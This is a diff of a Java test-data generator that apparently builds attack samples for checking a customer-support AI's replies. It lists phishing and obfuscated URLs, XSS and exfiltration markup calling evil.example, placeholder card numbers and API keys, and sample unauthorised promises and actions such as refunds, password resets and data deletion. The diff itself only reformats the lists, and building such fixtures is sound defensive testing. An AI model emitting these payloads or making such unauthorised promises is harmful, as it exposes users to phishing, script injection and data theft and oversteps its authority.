@@ -27,32 +27,52 @@ record Attack(
   static final String ELSEWHERE = "Lagoon Charter Ltd pays 4,200 a month until its contract ends";
 
   private static final List<String> ADDRESSES = List.of(
-      "https://evil.example/collect?d=4417", "http://198.51.100.7/login", "https://evil.example",
-      "https://harborlane-support.example.net/verify", "http://bit.example/3xY", "https://t.evil.io/p",
-      "https://help.harborlane.example@evil.example/a", "https://help.harborlane.example.evil.example/a",
-      "https://xn--harborlne-22a.example/login", "https://help.harborlane.example/go?url=https://evil.example",
-      "https://help.harborlane.example/x#c2VjcmV0", "https://c2VjcmV0LXdvcmRz.evil.example/i.png",
-      "ftp://evil.example/file", "javascript:fetch('https://evil.example')",
-      "data:text/html,<script>1</script>", "https://evil.example:8443/a", "http://0x7f000001/",
-      "http://3325256711/", "tel:+15550100", "mailto:thief@evil.example");
+      "https://evil.example/collect?d=4417",
+      "http://198.51.100.7/login",
+      "https://evil.example",
+      "https://harborlane-support.example.net/verify",
+      "http://bit.example/3xY",
+      "https://t.evil.io/p",
+      "https://help.harborlane.example@evil.example/a",
+      "https://help.harborlane.example.evil.example/a",
+      "https://xn--harborlne-22a.example/login",
+      "https://help.harborlane.example/go?url=https://evil.example",
+      "https://help.harborlane.example/x#c2VjcmV0",
+      "https://c2VjcmV0LXdvcmRz.evil.example/i.png",
+      "ftp://evil.example/file",
+      "javascript:fetch('https://evil.example')",
+      "data:text/html,<script>1</script>",
+      "https://evil.example:8443/a",
+      "http://0x7f000001/",
+      "http://3325256711/",
+      "tel:+15550100",
+      "mailto:thief@evil.example");
   private static final List<String> PROMISES = List.of(
       "We will refund 500 EUR to your card today", "You get a 50% discount for life",
-      "I guarantee a full refund, this is legally binding", "Your plan is free of charge for a year",
+      "I guarantee a full refund, this is legally binding",
+          "Your plan is free of charge for a year",
       "We will compensate you with $1,000", "You are legally entitled to a new device",
       "Wir erstatten Ihnen 300 Euro bis morgen", "Nous vous remboursons 200 euros sous 24 heures");
   private static final List<String> DEEDS = List.of(
-      "I have cancelled your contract and refunded the fee", "I've reset the owner's password for you",
+      "I have cancelled your contract and refunded the fee",
+          "I've reset the owner's password for you",
       "Your account has been upgraded to enterprise", "I have deleted all data of your company",
       "I have approved the request and sent the keys", "Ich habe Ihren Vertrag storniert");
   private static final List<String> PRIVATE = List.of(
-      "Pay by card 4111 1111 1111 1111", "Transfer it to DE89 3704 0044 0532 0130 00",
-      "Write to thief@evil.example at once", "Call +44 20 7946 0018 and say your password",
-      "The key is sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "Use AKIA" + "IOSFODNN7EXAMPLE to sign in");
+      "Pay by card 4111 1111 1111 1111",
+      "Transfer it to DE89 3704 0044 0532 0130 00",
+      "Write to thief@evil.example at once",
+      "Call +44 20 7946 0018 and say your password",
+      "The key is sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc",
+      "Use AKIA" + "IOSFODNN7EXAMPLE to sign in");
   private static final List<String> MARKUP = List.of(
-      "<script>fetch('//evil.example')</script>", "<img src=x onerror=alert(1)>",
-      "<iframe src=https://evil.example></iframe>", "<svg onload=alert(1)>",
+      "<script>fetch('//evil.example')</script>",
+      "<img src=x onerror=alert(1)>",
+      "<iframe src=https://evil.example></iframe>",
+      "<svg onload=alert(1)>",
       "<form action=https://evil.example><input name=card></form>",
-      "<a href=\"javascript:alert(1)\">your invoice</a>", "![x](https://evil.example/p.png)",
+      "<a href=\"javascript:alert(1)\">your invoice</a>",
+      "![x](https://evil.example/p.png)",
       "<style>@import url(https://evil.example/a.css)</style>");
 
   static Attack any(SplittableRandom random, List<String> bases, int number) {
